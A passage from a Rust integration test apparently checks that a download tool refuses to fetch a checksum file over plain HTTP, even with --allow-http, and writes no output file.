            .args(["get", "--allow-http", "--policy"])
            .arg(&policy)
            .arg("--state")
            .arg(t.path().join("state"))
            .arg("-o")
            .arg(t.path().join("tool"))
            .arg("http://127.0.0.1:1/rel/tool"),
    );
    crate::common::assert_one_line_refusal(
        &out,
        crate::common::exit::USAGE,
        &[
            "http://127.0.0.1:1/rel/SHA256SUMS is not https",
            "give --sums the https URL",
        ],
    );
    assert!(!t.path().join("tool").exists());
}
